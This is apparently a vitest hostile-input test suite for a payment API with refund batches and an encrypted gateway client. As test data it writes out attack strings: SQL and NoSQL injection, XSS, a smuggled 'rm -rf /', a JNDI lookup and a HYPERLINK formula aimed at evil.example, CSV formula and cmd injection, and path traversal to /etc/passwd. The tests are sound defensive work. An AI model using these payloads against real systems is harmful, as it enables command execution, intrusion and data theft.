/**
 * Hostile input (docs/RELIABILITY.md): malformed, oversized and injection-shaped requests to the real API
 * process, hostile rows in refund-batch files, malformed and undecryptable gateway answers, and a
 * wrong merchant key. Each gets a clear error (a problem+json naming the field or row, an audit
 * entry naming the fault), nothing is enqueued or changed in Redis, and the process stays up.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TEST_MERCHANT } from '../../src/config/config.js';
import { createGatewayClient } from '../../src/gateway/index.js';
import { startWorkers, type WorkerContext } from '../../src/workers/index.js';
import { STORE_UID, charge, startHarness, type Harness } from '../support/harness.js';
import { startServer, type Behaviour } from '../support/gateway-server.js';
import { openEnvelope, parseEnvelope } from '../../src/domain/codec/index.js';
import { settle } from './support/checks.js';
import { report } from './support/report.js';
import { diff, snapshot } from './support/redis-scan.js';
import { API_KEY, spawnApi, spawnNode, type ApiProcess } from './support/system.js';

let h: Harness;
let api: ApiProcess;

beforeAll(async () => {
  h = await startHarness({ sim: { devices: 10 } });
  h.startWorker();
  // A paid charge to aim refunds at, then no workers: any change to Redis would come from a request.
  const { operation } = await h.producer.enqueueCharge(charge('base-1', 1000, 'A01', { items: [{ id: 'T1', name: '茶', cost: 1000, amount: 1, total: 1000 }] }));
  await h.waitForState(operation.id, ['paid']);
  await Promise.all(h.workers.splice(0).map((w) => w.close()));
  api = await spawnApi({ redisUrl: h.redis.url, prefix: h.redis.prefix, gatewayUrl: h.sim.url });
});
afterAll(async () => {
  await api?.kill9();
  await h?.close();
});

interface Case {
  name: string;
  method?: string;
  path?: string;
  /** JSON-encoded unless `raw` is given. */
  body?: unknown;
  raw?: string | Buffer;
  headers?: Record<string, string>;
  auth?: boolean;
  status: number;
}

const good = { device_name: 'A02', order_id: 'hostile-new', cost: 100, pfn: 'CREDITCARD' };
const deep = (n: number) => `${'{"a":'.repeat(n)}1${'}'.repeat(n)}`;

const API_CASES: Case[] = [
  // size and shape of the body
  { name: 'body over the 100 KiB limit', body: { ...good, user_name: 'x'.repeat(200_000) }, status: 413 },
  { name: '5 MiB body', raw: `{"pad":"${'x'.repeat(5 * 1024 * 1024)}"}`, status: 413 },
  { name: 'JSON nested 5 000 deep', raw: deep(5_000), status: 400 },
  { name: 'truncated JSON', raw: '{"device_name":"A01","order_id":"x","cost":1', status: 400 },
  { name: 'NaN literal', raw: '{"device_name":"A01","order_id":"x","cost":NaN,"pfn":"CREDITCARD"}', status: 400 },
  { name: 'JSON declared as Latin-1', raw: '{"device_name":"A01","order_id":"x","cost":1,"pfn":"CREDITCARD"}', headers: { 'content-type': 'application/json; charset=iso-8859-1' }, status: 415 },
  { name: 'XML body', raw: '<charge><cost>1</cost></charge>', headers: { 'content-type': 'application/xml' }, status: 415 },
  { name: 'multipart body', raw: '--x\r\nContent-Disposition: form-data; name="cost"\r\n\r\n1\r\n--x--', headers: { 'content-type': 'multipart/form-data; boundary=x' }, status: 415 },
  { name: 'JSON null', raw: 'null', status: 400 },
  { name: 'JSON number', raw: '42', status: 400 },
  { name: 'array of charges', body: [good, good], status: 400 },
  // prototype pollution and operator injection
  { name: '__proto__ key', raw: `{"__proto__":{"isAdmin":true},${JSON.stringify(good).slice(1)}`, status: 400 },
  { name: 'constructor.prototype key', body: { ...good, constructor: { prototype: { isAdmin: true } } }, status: 400 },
  { name: 'Mongo-style operator as cost', body: { ...good, cost: { $gt: 0 } }, status: 400 },
  { name: '$where field', body: { ...good, $where: 'sleep(1000)' }, status: 400 },
  // amounts
  { name: 'cost 1e3', body: { ...good, cost: '1e3' }, status: 400 },
  { name: 'cost 0x10', body: { ...good, cost: '0x10' }, status: 400 },
  { name: 'cost Infinity (1e309)', raw: JSON.stringify(good).replace('"cost":100', '"cost":1e309'), status: 400 },
  { name: 'cost beyond 2^53', raw: JSON.stringify(good).replace('"cost":100', '"cost":9007199254740993'), status: 400 },
  { name: 'cost in full-width digits', body: { ...good, cost: '１００' }, status: 400 },
  { name: 'cost in Arabic-Indic digits', body: { ...good, cost: '١٠٠' }, status: 400 },
  { name: 'cost 0', body: { ...good, cost: 0 }, status: 400 },
  { name: 'cost null', body: { ...good, cost: null }, status: 400 },
  { name: 'cost as an array', body: { ...good, cost: [100] }, status: 400 },
  { name: 'duplicate cost keys, the last negative', raw: JSON.stringify(good).replace('"cost":100', '"cost":100,"cost":-100'), status: 400 },
  // identifiers and enums
  { name: 'order_id of spaces', body: { ...good, order_id: '   ' }, status: 400 },
  { name: 'order_id as an object', body: { ...good, order_id: { $ne: null } }, status: 400 },
  { name: 'device_name as an array', body: { ...good, device_name: ['A01', 'A02'] }, status: 400 },
  { name: 'store_uid wildcard', body: { ...good, store_uid: '*' }, status: 400 },
  { name: 'store_uid with a NUL', body: { ...good, store_uid: `${STORE_UID}\u0000` }, status: 400 },
  { name: 'store_uid of another merchant (17 chars)', body: { ...good, store_uid: '2891518800029999x' }, status: 400 },
  { name: 'pfn SQL-shaped', body: { ...good, pfn: "CREDITCARD' OR '1'='1" }, status: 400 },
  { name: 'currency script tag', body: { ...good, currency: '<script>alert(1)</script>' }, status: 400 },
  { name: 'e-mail with a header injection', body: { ...good, user_email: 'a@b.tw\r\nBcc: all@evil.example' }, status: 400 },
  { name: 'ip with a shell command', body: { ...good, ip: '127.0.0.1; rm -rf /' }, status: 400 },
  { name: 'items not an array', body: { ...good, items: 'tea' }, status: 400 },
  { name: 'item with a negative amount', body: { ...good, items: [{ id: 'T', name: 't', cost: 100, amount: -1, total: -100 }] }, status: 400 },
  { name: 'items totalling more than cost', body: { ...good, items: [{ id: 'T', name: 't', cost: 1000, amount: 1, total: 1000 }] }, status: 400 },
  // headers
  { name: 'Idempotency-Key of 2 000 characters', body: good, headers: { 'Idempotency-Key': 'k'.repeat(2_000) }, status: 400 },
  { name: 'Idempotency-Key differing from order_id', body: good, headers: { 'Idempotency-Key': "' OR 1=1 --" }, status: 400 },
  // authentication
  { name: 'no credentials', body: good, auth: false, status: 401 },
  { name: 'a 10 KiB bearer token', body: good, auth: false, headers: { authorization: `Bearer ${'A'.repeat(10_240)}` }, status: 401 },
  { name: 'bearer key with a suffix', body: good, auth: false, headers: { authorization: `Bearer ${API_KEY}' OR '1'='1` }, status: 401 },
  { name: 'Basic auth with the key as password', body: good, auth: false, headers: { authorization: `Basic ${Buffer.from(`x:${API_KEY}`).toString('base64')}` }, status: 401 },
  // refunds
  { name: 'refund above the balance', path: '/v1/refunds', body: { order_id: 'base-1', refund_id: 'h-r1', cost: 1001 }, status: 422 },
  { name: 'refund with a negative cost', path: '/v1/refunds', body: { order_id: 'base-1', refund_id: 'h-r2', cost: -1 }, status: 400 },
  { name: 'refund_id of 65 characters', path: '/v1/refunds', body: { order_id: 'base-1', refund_id: 'r'.repeat(65), cost: 1 }, status: 400 },
  { name: 'refund of an item the charge did not have', path: '/v1/refunds', body: { order_id: 'base-1', refund_id: 'h-r3', cost: 10, items: [{ id: 'X', name: 'DROP TABLE', cost: 10, amount: 1, total: 10 }] }, status: 400 },
  { name: 'refund lane injection', path: '/v1/refunds', body: { order_id: 'base-1', refund_id: 'h-r4', cost: 1, lane: "live'; --" }, status: 400 },
  { name: 'refund naming an unknown uid without its key', path: '/v1/refunds', body: { uid: '999999', refund_id: 'h-r5', cost: 1, device_name: 'A01' }, status: 400 },
  { name: 'reprint with an unknown field', path: '/v1/reprints/invoice', body: { order_id: 'base-1', copies: 1_000_000 }, status: 400 },
  // paths and queries
  { name: 'path traversal in the order id', method: 'GET', path: `/v1/payments/${STORE_UID}/..%2F..%2F..%2Fetc%2Fpasswd`, status: 404 },
  { name: 'Redis key pattern as operation id', method: 'GET', path: `/v1/operations/${encodeURIComponent('*')}`, status: 404 },
  { name: 'devices limit of a billion', method: 'GET', path: '/v1/devices?limit=1000000000', status: 400 },
  // gateway callback (open: a hint only)
  { name: 'callback over the size limit', path: '/v1/callbacks/mypay', raw: `order_id=${'x'.repeat(200_000)}`, headers: { 'content-type': 'application/x-www-form-urlencoded' }, auth: false, status: 413 },
  { name: 'callback as JSON with an operator', path: '/v1/callbacks/mypay', body: { order_id: { $ne: null } }, auth: false, status: 400 },
];

async function send(c: Case): Promise<{ status: number; type: string; body: unknown }> {
  const headers: Record<string, string> = { 'content-type': 'application/json' };
  if (c.auth !== false) headers.authorization = `Bearer ${API_KEY}`;
  Object.assign(headers, c.headers);
  const method = c.method ?? 'POST';
  const body = method === 'GET' ? undefined : c.raw ?? JSON.stringify(c.body);
  const res = await fetch(`${api.url}${c.path ?? '/v1/charges'}`, { method, headers, body, signal: AbortSignal.timeout(30_000) });
  const text = await res.text();
  let parsed: unknown = text;
  try {
    parsed = JSON.parse(text);
  } catch {
    // keep the text
  }
  return { status: res.status, type: res.headers.get('content-type') ?? '', body: parsed };
}

/** Batch rows (CSV, header `order_id,refund_id,cost,items`), each hostile in its own way. */
const BATCH_ROWS: { name: string; row: string }[] = [
  { name: 'formula in order_id', row: '"=HYPERLINK(""http://evil.example/?x=""&A1;""click"")",r-b1,10,' },
  { name: 'refund_id with a newline', row: 'base-1,"r\nb2",10,' },
  { name: 'refund_id with a tab', row: 'base-1,"r\tb3",10,' },
  { name: 'refund_id with a NUL', row: 'base-1,r\u0000b4,10,' },
  { name: 'negative cost', row: 'base-1,r-b5,-10,' },
  { name: 'cost 1e2', row: 'base-1,r-b6,1e2,' },
  { name: 'cost 10.5', row: 'base-1,r-b7,10.5,' },
  { name: 'cost empty', row: 'base-1,r-b8,,' },
  { name: 'cost above the balance', row: 'base-1,r-b9,1001,' },
  { name: 'cost in full-width digits', row: 'base-1,r-b10,１０,' },
  { name: 'order unknown (SQL-shaped)', row: "' OR 1=1 --,r-b11,10," },
  { name: 'order unknown (Redis key pattern)', row: '*,r-b12,10,' },
  { name: 'refund_id of 200 characters', row: `base-1,${'r'.repeat(200)},10,` },
  { name: 'items not JSON', row: 'base-1,r-b14,10,{not json' },
  { name: 'items totalling more than cost', row: `base-1,r-b15,10,"${JSON.stringify([{ id: 'T1', name: '茶', cost: 20, amount: 1, total: 20 }]).replace(/"/g, '""')}"` },
  { name: 'items with __proto__', row: `base-1,r-b16,10,"${'[{"__proto__":{"x":1},"id":"T1","name":"茶","cost":10,"amount":1,"total":10}]'.replace(/"/g, '""')}"` },
  { name: 'extra cells (ragged line)', row: 'base-1,r-b17,10,,surplus,cells' },
  { name: 'unbalanced quote', row: 'base-1,"r-b18,10,' },
];

/** Rows that break the file's CSV structure: the file is refused as a whole (row 0), not row by row. */
const STRUCTURAL = new Set(['extra cells (ragged line)', 'unbalanced quote']);

describe('hostile input', () => {
  it(`${API_CASES.length} hostile API requests and ${BATCH_ROWS.length} hostile batch rows: clear errors, nothing changed, the process stays up`, async () => {
    const base = `{${h.redis.prefix}}*`;
    // Keys that change with nobody asking (e.g. BullMQ's stalled-job checks of the API's batch tracker).
    const a = await snapshot(h.core.redis, base);
    await new Promise((r) => setTimeout(r, 2_500));
    const b = await snapshot(h.core.redis, base);
    const volatile = new Set(diff(a, b).map((d) => d.replace(/^\w+ /, '')));
    const isVolatile = (k: string) => volatile.has(k) || /:stalled-check$/.test(k);

    const results: { name: string; status: number; want: number; fields: string[]; problem: boolean }[] = [];
    for (const c of API_CASES) {
      const r = await send(c);
      const errors = (r.body as { errors?: { field?: string; row?: number }[] } | undefined)?.errors ?? [];
      results.push({ name: c.name, status: r.status, want: c.status, fields: errors.map((e) => String(e.field)), problem: r.type.startsWith('application/problem+json') });
    }
    const header = 'order_id,refund_id,cost,items';
    const batchResults: { name: string; status: number; issues: string[] }[] = [];
    for (const row of BATCH_ROWS) {
      const r = await send({ name: row.name, path: '/v1/refund-batches', raw: `${header}\n${row.row}\n`, headers: { 'content-type': 'text/csv' }, status: 422 });
      const issues = ((r.body as { errors?: { row: number; field: string; message: string }[] }).errors ?? []).map((e) => `row ${e.row} ${e.field}: ${e.message}`);
      batchResults.push({ name: row.name, status: r.status, issues });
    }
    // All of them in one file (but the two that break the CSV structure): refused as a whole, every row named.
    const rowLevel = BATCH_ROWS.filter((r) => !STRUCTURAL.has(r.name));
    const together = await send({ name: 'all rows', path: '/v1/refund-batches', raw: `${header}\n${rowLevel.map((r) => r.row).join('\n')}\n`, headers: { 'content-type': 'text/csv' }, status: 422 });
    const togetherRows = new Set(((together.body as { errors?: { row: number }[] }).errors ?? []).map((e) => e.row));
    const oversized = await send({ name: 'batch over 20 MiB', path: '/v1/refund-batches', raw: `${header}\n${'base-1,r,1,\n'.repeat(2_000_000)}`, headers: { 'content-type': 'text/csv' }, status: 413 });
    const after = await snapshot(h.core.redis, base);
    const changed = diff(a, after, volatile).filter((d) => !isVolatile(d.replace(/^\w+ /, '')));
    const health = await fetch(`${api.url}/healthz`).then((r) => r.status);

    const wrong = results.filter((r) => r.status !== r.want || !r.problem || (r.status !== 413 && r.status !== 415 && r.fields.length === 0));
    const batchWrong = batchResults.filter((r) => r.status !== 422 || r.issues.length === 0);
    report('hostile-input-api', {
      'API requests': results.length,
      'batch rows (one file each, then all in one file)': BATCH_ROWS.length,
      'answered as expected (status + problem+json naming the field)': results.length - wrong.length,
      'batch rows refused with the row named': batchResults.length - batchWrong.length,
      'rows named when all row-level ones are in one file': `${togetherRows.size} of ${rowLevel.length} (HTTP ${together.status})`,
      'batch over 20 MiB': oversized.status,
      '5xx answers': [...results, ...batchResults].filter((r) => r.status >= 500).length,
      'Redis keys changed': changed.length,
      'keys that change by themselves (left out)': [...new Set([...volatile, ...diff(a, after).map((d) => d.replace(/^\w+ /, '')).filter(isVolatile)])],
      'API process alive, /healthz': `${api.alive()}, ${health}`,
      'statuses': Object.fromEntries(Object.entries(results.reduce<Record<number, number>>((m, r) => ({ ...m, [r.status]: (m[r.status] ?? 0) + 1 }), {})).map(([k, v]) => [k, v])),
      ...(wrong.length ? { 'unexpected answers': wrong.map((w) => `${w.name}: ${w.status} (want ${w.want}) fields ${w.fields.join(',')}`) } : {}),
      ...(togetherRows.size !== rowLevel.length ? { 'issues of the one-file batch': JSON.stringify((together.body as { errors?: unknown[] }).errors ?? []) } : {}),
      ...(batchWrong.length ? { 'unexpected batch answers': batchWrong.map((w) => `${w.name}: ${w.status} ${w.issues.join('; ')}`) } : {}),
    });

    expect(results.length + BATCH_ROWS.length).toBeGreaterThanOrEqual(50);
    expect(wrong).toEqual([]);
    expect(batchWrong).toEqual([]);
    expect(together.status).toBe(422);
    expect(togetherRows.size).toBe(rowLevel.length);
    expect(oversized.status).toBe(413);
    expect(changed).toEqual([]);
    expect(api.alive()).toBe(true);
    expect(health).toBe(200);
  });

  it('injection-shaped values the spec allows are taken as opaque data: stored verbatim, only their own keys written', async () => {
    const shapes = ["'; DROP TABLE orders; --", '{mypay}:op:charge.x', 'a|b:live', '*', '${jndi:ldap://evil.example/a}', '<img src=x onerror=alert(1)>', '../../etc/passwd', '%00%0d%0a'];
    const before = await snapshot(h.core.redis, `{${h.redis.prefix}}*`);
    const stored: string[] = [];
    for (const [i, orderId] of shapes.entries()) {
      const r = await send({ name: orderId, body: { device_name: 'A03', order_id: orderId, cost: 100 + i, pfn: 'CREDITCARD', echo_0: orderId }, status: 202 });
      expect(r.status, orderId).toBe(202);
      const back = await send({ name: orderId, method: 'GET', path: `/v1/payments/${STORE_UID}/${encodeURIComponent(orderId)}`, status: 200 });
      expect((back.body as { order_id: string }).order_id).toBe(orderId);
      stored.push((back.body as { id: string }).id);
    }
    const after = await snapshot(h.core.redis, `{${h.redis.prefix}}*`);
    const added = diff(before, after).filter((d) => d.startsWith('added ')).map((d) => d.slice(6));
    const changed = diff(before, after).filter((d) => !d.startsWith('added '));
    // New keys: one record per charge, its device job (BullMQ), and the terminal's line.
    // BullMQ's queue-level structures (`device:wait`, `device:delayed`, …) may appear with the first
    // job of their kind, and the store's two indexes (`leases`, `devices`) may be (re)created too.
    // Each charge also leaves its order-id tombstone; the janitor's index of open operations is one key.
    const ix = `{${h.redis.prefix}}:ix:${STORE_UID}:`;
    // …and the store's search indexes (all charges, by state, by terminal) and their sequence.
    const indexes = new Set([h.core.store.keys.leases, h.core.store.keys.devices, h.core.store.keys.open, `${ix}charge`, `${ix}charge:s:queued`, `${ix}charge:d:A03`, `${ix}seq`]);
    const own = (k: string) => stored.some((id) => k.includes(id)) || shapes.some((o) => k === h.core.store.keys.tombstone(STORE_UID, o)) || k.includes(`${STORE_UID}|A03`) || indexes.has(k) || /^\{[^}]+\}:(device|status):[a-z-]+$/.test(k);
    report('hostile-input-opaque', {
      values: shapes.length,
      'accepted (202) and read back verbatim': stored.length,
      'keys added': added.length,
      'keys added that belong to no new charge': added.filter((k) => !own(k)),
      'keys changed': changed,
    });
    expect(added.filter((k) => !own(k))).toEqual([]);
    expect(api.alive()).toBe(true);
  });
});

/** Bugs this suite found outside the orchestrator core (docs/RELIABILITY.md › Findings), now fixed. */
describe('bugs this suite found, fixed (each test failed before its fix)', () => {
  it('API: an unauthenticated callback with 1 000 form parameters is answered 413', async () => {
    const r = await send({ name: 'params', path: '/v1/callbacks/mypay', raw: Array.from({ length: 1_000 }, (_, i) => `p${i}=1`).join('&'), headers: { 'content-type': 'application/x-www-form-urlencoded' }, auth: false, status: 413 });
    expect(r.status).toBe(413);
  });

  it('API: a JSON body declared as UTF-7 is refused with 415: JSON must be UTF-8 (RFC 8259 §8.1), "+ADw-script+AD4-" must not become "<script>"', async () => {
    const r = await send({ name: 'utf7', raw: '{"device_name":"+ADw-script+AD4-","order_id":"utf7","cost":1,"pfn":"CREDITCARD"}', headers: { 'content-type': 'application/json; charset=utf-7' }, status: 415 });
    expect(r.status).toBe(415);
  });

  it('API: invalid UTF-8 in a JSON body is refused with 400, not enqueued with U+FFFD substituted', async () => {
    const raw = Buffer.concat([Buffer.from('{"device_name":"A0'), Buffer.from([0xff]), Buffer.from('","order_id":"utf8-bad","cost":100,"pfn":"CREDITCARD"}')]);
    const r = await send({ name: 'utf8', raw, status: 400 });
    expect(r.status).toBe(400);
  });

  it('batch: the results CSV neutralises formula-shaped cells (a refund_id "=cmd|…" is exported as text)', async () => {
    const refundId = "=cmd|' /C calc'!A0";
    const r = await send({ name: 'formula', path: '/v1/refund-batches?batch_id=formula-1', raw: `order_id,refund_id,cost\nbase-1,"${refundId}",10\n`, headers: { 'content-type': 'text/csv' }, status: 202 });
    expect(r.status).toBe(202);
    const res = await fetch(`${api.url}/v1/refund-batches/formula-1?format=csv`, { headers: { authorization: `Bearer ${API_KEY}` } });
    const csv = await res.text();
    // OWASP CSV injection: a cell must not start with = + - @ (prefix it with ' or a tab).
    const cells = csv.split('\n').slice(1).flatMap((l) => l.split(','));
    expect(cells.filter((c) => /^"?[=+\-@]/.test(c))).toEqual([]);
  });
});

/** The first answer or query of an audit trail that recorded an error (a B200 charge answer has none). */
function firstError(trail: { event: string; data: unknown }[]): { event: string; error?: string; message?: string } | undefined {
  const e = trail.find((x) => (x.event === 'answer' || x.event === 'query') && (x.data as { error?: string }).error);
  return e ? { event: e.event, ...(e.data as { error?: string; message?: string }) } : undefined;
}

describe('hostile gateway answers and a wrong merchant key', () => {
  let g: Harness;
  beforeAll(async () => {
    g = await startHarness({ sim: { devices: 10 } });
  });
  afterAll(async () => g?.close());
  const answers: Record<string, Behaviour> = {
    'HTML error page with status 200': (_q, res) => res.writeHead(200, { 'content-type': 'text/html' }).end('<html><body>Service Unavailable</body></html>'),
    'truncated JSON': (_q, res) => res.writeHead(200, { 'content-type': 'application/json' }).end('{"code":"B200","msg":"執行成'),
    'JSON of the wrong shape': (_q, res) => res.writeHead(200, { 'content-type': 'application/json' }).end('{"status":"ok"}'),
    'an unknown answer code': (_q, res) => res.writeHead(200, { 'content-type': 'application/json' }).end('{"code":"B999","msg":"?"}'),
    'an encrypted blob instead of JSON': (_q, res) => res.writeHead(200, { 'content-type': 'application/json' }).end(Buffer.from('Zm9vYmFyYmF6cXV4'.repeat(64), 'base64').toString('base64')),
    'invalid UTF-8': (_q, res) => res.writeHead(200, { 'content-type': 'application/json' }).end(Buffer.from([0x7b, 0x22, 0x63, 0xff, 0xfe, 0x22, 0x7d])),
    'a B200 query answer without rows': (_q, res) => res.writeHead(200, { 'content-type': 'application/json' }).end('{"code":"B200","msg":"執行成功"}'),
    'an answer of 5 MiB': (_q, res) => res.writeHead(200, { 'content-type': 'application/json' }).end(`{"code":"B200","msg":"${'x'.repeat(5 * 1024 * 1024)}"}`),
    'a redirect to another host': (_q, res) => res.writeHead(302, { location: 'http://evil.example/api/init' }).end(),
  };

  it('every malformed or undecryptable answer leaves the charge unknown → unresolved, never paid or failed, with one POST each', async () => {
    const names = Object.keys(answers);
    // One fake gateway; the terminal named in the (decrypted) request picks the bad answer.
    const server = await startServer((req, res, body) => {
      const { data } = openEnvelope(parseEnvelope(body, req.headers['content-type'] ?? ''), TEST_MERCHANT.key);
      const i = Number(String((data as { device_name?: string }).device_name ?? 'X0').slice(1));
      answers[names[i] ?? names[0]!]!(req, res, body);
    });
    const gateway = createGatewayClient({ url: server.url, allowedHosts: ['127.0.0.1'], answerTimeoutMs: 1_000, connectTimeoutMs: 500 });
    const w = startWorkers({ ...g.ctx, gateway }, { concurrency: 20 });
    const results: Record<string, string> = {};
    try {
      const ids = await Promise.all(names.map(async (_n, i) => (await g.producer.enqueueCharge(charge(`bad-answer-${i}`, 100, `X${i}`))).operation.id));
      const done = await settle(g.core, ids, 30_000);
      const trails = await Promise.all(ids.map((id) => g.core.store.auditTrail(id)));
      names.forEach((name, i) => {
        const op = done.ops.get(ids[i]!);
        const trail = trails[i]!;
        const err = firstError(trail);
        results[name] = `${op?.state}; charge POSTs ${trail.filter((e) => e.event === 'request').length}, queries ${trail.filter((e) => e.event === 'query').length}; ${err?.event} ${err?.error}: ${(err?.message ?? '').slice(0, 100)}`;
      });
      report('hostile-gateway-answers', { ...results, 'worker runtime still running': w.running() });
      for (const [i, id] of ids.entries()) {
        expect(done.ops.get(id)?.state, names[i]).toBe('unresolved');
        expect(trails[i]!.filter((e) => e.event === 'request'), names[i]).toHaveLength(1);
        expect(firstError(trails[i]!)?.error, names[i]).toMatch(/bad_answer|outcome_unknown/);
      }
      expect(w.running()).toBe(true);
    } finally {
      await w.close();
      await gateway.close();
      await server.close();
    }
  });

  it('a wrong merchant key: the gateway cannot decrypt, the charge is rejected with its message, nothing charged; a key of the wrong size stops the process at start-up', async () => {
    const wrongKey = 'A'.repeat(32);
    const ctx: WorkerContext = { ...g.ctx, merchantKey: () => wrongKey };
    const w = startWorkers(ctx, { concurrency: 5 });
    let state = '';
    let msg = '';
    try {
      const { operation } = await g.producer.enqueueCharge(charge('wrong-key-1', 100, 'A10'));
      const done = await settle(g.core, [operation.id], 20_000);
      state = done.ops.get(operation.id)?.state ?? 'missing';
      msg = done.ops.get(operation.id)?.msg ?? '';
    } finally {
      await w.close();
    }
    // `mypay send` with the wrong key: one clear line, non-zero exit, the key never echoed.
    const cli = spawnNode('src/cli/main.ts', ['send', 'charge', '--data', JSON.stringify({ store_uid: STORE_UID, device_name: 'A10', order_id: 'wrong-key-cli', cost: 100, pfn: 'CREDITCARD' })], {
      MYPAY_URL: g.sim.url, MYPAY_ALLOWED_HOSTS: '127.0.0.1', MYPAY_STORE_UID: STORE_UID, MYPAY_STORE_KEY: wrongKey,
    });
    const cliExit = await cli.exited;
    // A key that is not 32 bytes: the process refuses to start.
    const short = spawnNode('src/main.ts', ['--role', 'worker'], {
      REDIS_URL: g.redis.url, MYPAY_URL: g.sim.url, MYPAY_ALLOWED_HOSTS: '127.0.0.1', MYPAY_STORE_UID: STORE_UID, MYPAY_STORE_KEY: 'short-secret-key-123', METRICS_PORT: '0',
    });
    const shortExit = await short.exited;
    report('hostile-wrong-merchant-key', {
      'charge with a wrong 32-byte key': `${state}: ${msg}`,
      'gateway charge POSTs accepted for it': g.sim.engine.stats.chargePosts['wrong-key-1'] ?? 0,
      'mypay send with the wrong key': `exit ${cliExit.code}: ${cli.output().trim().split('\n').at(-1)}`,
      'worker with a 20-byte key': `exit ${shortExit.code}: ${short.output().trim().split('\n')[0]}`,
      'key echoed in any output': [cli.output(), short.output()].some((o) => o.includes(wrongKey) || o.includes('short-secret-key-123')),
    });
    expect(state).toBe('rejected');
    expect(msg).toBe('執行失敗');
    expect(g.sim.engine.stats.chargePosts['wrong-key-1']).toBeUndefined();
    expect(cliExit.code).toBe(2);
    expect(shortExit.code).toBe(1);
    expect(short.output()).toMatch(/MYPAY_STORE_KEY: merchant key must be 32 bytes/);
    expect(cli.output() + short.output()).not.toContain(wrongKey);
    expect(short.output()).not.toContain('short-secret-key-123');
    expect(TEST_MERCHANT.key).not.toBe(wrongKey);
  });
});
